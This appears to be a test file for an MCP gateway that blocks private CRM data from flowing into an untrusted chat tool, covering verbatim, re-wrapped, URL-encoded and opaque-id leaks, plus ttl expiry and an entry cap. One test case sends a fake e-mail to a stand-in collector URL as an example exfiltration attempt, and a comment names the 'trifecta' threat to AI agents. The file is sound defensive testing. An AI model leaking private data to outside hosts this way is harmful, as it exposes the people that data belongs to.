/**
 * Issue 9, acceptance 1, 3 and 4, through the running gateway with real fixture upstreams: a private
 * CRM (`crm`, labelled private) and a chat (`chat`, sink and untrusted from its tools' annotations).
 * Data read from the CRM and sent to the chat is blocked — verbatim, re-wrapped, percent-encoded in a
 * URL, an opaque id; what is not a flow passes; the store file never holds a planted value; reads
 * expire with the ttl and the oldest go first past `maxEntries`.
 */
import { readFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectHttp, NODE, ROOT, startGateway, tempDir, textOf, type RunningGateway } from '../helpers/gateway.js';
import { ManualClock } from '../helpers/manual-clock.js';

const CRM = join(ROOT, 'test/fixtures/private-data-server.mjs');
const CHAT = join(ROOT, 'test/fixtures/sink-server.mjs');
const PARAGRAPH =
  'Northwind Logistics will close the Rotterdam warehouse in the third quarter and move its inventory to the new ' +
  'facility near Antwerp, which the board approved last Tuesday after a long discussion about severance costs.';
const EMAIL = 'jane.doe@northwind-logistics.com';
const DOC_ID = 'DOC-8f3k2m9x1q7z';
const OWN_MESSAGE = 'Thread in ops: rotate the staging key STG-4k9m2x7p1q8z before Friday, the release train leaves at noon sharp.';
const HOUR = 3_600_000;

function yaml(dir: string, flows = ''): string {
  return `
gateway: { http: { port: 0 }, store: ${join(dir, 'watchdog.db')} }
upstreams:
  - { name: crm, command: ${NODE}, args: [${CRM}], labels: [private] }
  - { name: chat, command: ${NODE}, args: [${CHAT}] }
${flows}
`;
}

async function open(dir: string, clock: ManualClock, flows = '') {
  const gateway = await startGateway(yaml(dir, flows), { deps: { clock } });
  const client = await connectHttp(gateway.url);
  const call = async (name: string, args: Record<string, unknown>) => {
    const result = await client.callTool({ name, arguments: args });
    return { blocked: result.isError === true, text: textOf(result) };
  };
  /** Rules of the findings a result names (a block names its finding). */
  const rulesOf = (text: string) => gateway.app.store.findings.page({}).findings.filter((f) => text.includes(f.id)).map((f) => f.rule);
  const flowCount = () => gateway.app.store.findings.page({ rule: 'flows/flow' }).findings.length;
  return { gateway, client, call, rulesOf, flowCount };
}

describe('cross-server flows through the gateway', () => {
  const dir = tempDir('flows-');
  const clock = new ManualClock(Date.now());
  let g: Awaited<ReturnType<typeof open>>;

  beforeAll(async () => {
    g = await open(dir, clock);
  });
  afterAll(async () => {
    await g?.client.close();
    await g?.gateway.close();
  });

  it('acceptance 1: a private paragraph, re-wrapped copy, percent-encoded e-mail and opaque id sent to the sink are blocked', async () => {
    expect((await g.call('crm__get_customer', { id: 'c-1' })).text).toContain(EMAIL);
    const rewrapped = PARAGRAPH.toLowerCase().replace(/(.{30,40}?) /g, '$1\n').replace(/,/g, ' --').replace(/\./g, '!');
    const attempts = [
      () => g.call('chat__post_message', { channel: 'general', text: PARAGRAPH }),
      () => g.call('chat__post_message', { channel: 'general', text: `fwd:\n${rewrapped}` }),
      () => g.call('chat__fetch_url', { url: `https://collector.sink-server.test/t?u=${encodeURIComponent(EMAIL)}` }),
      () => g.call('chat__post_message', { channel: 'general', text: `see ${DOC_ID}` }),
    ];
    for (const attempt of attempts) {
      const result = await attempt();
      expect(result.blocked, result.text).toBe(true);
      expect(result.text).toMatch(/^blocked by mcp-watchdog: .*finding f_[0-9a-f]{12}$/);
      expect(g.rulesOf(result.text)).toContain('flows/flow');
    }
  });

  it('acceptance 3: an id back to its issuer, the sink\'s own data, common words, dates, well-known URLs and typed text are not flows', async () => {
    const before = g.flowCount();
    expect((await g.call('crm__get_document', { id: DOC_ID })).blocked).toBe(false);
    expect((await g.call('chat__search_messages', { query: 'staging key' })).text).toBe(OWN_MESSAGE);
    for (const text of [
      OWN_MESSAGE,
      'Meeting on 2024-05-01 about the README.md, see https://en.wikipedia.org/wiki/Email_address and https://www.w3.org/TR/html52/',
      'the board approved it, thanks',
      'Lunch order for Friday: two soups, one salad, and please remember the oat milk for the team kitchen.',
    ]) {
      expect((await g.call('chat__post_message', { channel: 'general', text })).blocked, text).toBe(false);
    }
    expect(g.flowCount()).toBe(before);
    // The chat's search is untrusted and the CRM private: posting now is the trifecta, an alert by default.
    expect(g.gateway.app.store.findings.page({ rule: 'flows/trifecta' }).findings.length).toBeGreaterThan(0);
  });

  it('acceptance 4: reads expire with the ttl', async () => {
    clock.advance(24 * HOUR + 1000);
    expect((await g.call('chat__post_message', { channel: 'general', text: `see ${DOC_ID}` })).blocked).toBe(false);
  });

  it('acceptance 4: the store file holds no planted value', async () => {
    const rows = g.gateway.app.store.db.prepare('SELECT count(*) AS n FROM flows').get() as { n: number };
    expect(rows.n).toBeGreaterThan(10);
    await g.client.close();
    await g.gateway.close();
    const bytes = ['watchdog.db', 'watchdog.db-wal'].map((f) => join(dir, f)).filter(existsSync).map((f) => readFileSync(f).toString('latin1'));
    expect(bytes.join('').length).toBeGreaterThan(0);
    for (const planted of [EMAIL, DOC_ID, 'Rotterdam warehouse', 'severance costs', 'STG-4k9m2x7p1q8z', 'northwind']) {
      expect(bytes.some((b) => b.toLowerCase().includes(planted.toLowerCase())), planted).toBe(false);
    }
  });
});

describe('flow store bound through the gateway', () => {
  it('acceptance 4: past maxEntries the oldest reads go first', async () => {
    const dir = tempDir('flows-cap-');
    const g = await open(dir, new ManualClock(Date.now()), 'flows: { maxEntries: 100 }');
    try {
      await g.call('crm__get_customer', { id: 'c-1' });
      expect((await g.call('chat__post_message', { channel: 'general', text: `see ${DOC_ID}` })).blocked).toBe(true);
      await g.call('crm__get_report', { words: 6000 });
      const rows = g.gateway.app.store.db.prepare('SELECT count(*) AS n FROM flows').get() as { n: number };
      expect(rows.n).toBeLessThanOrEqual(100);
      expect((await g.call('chat__post_message', { channel: 'general', text: `see ${DOC_ID}` })).blocked).toBe(false);
    } finally {
      await g.client.close();
      await g.gateway.close();
    }
  });
});
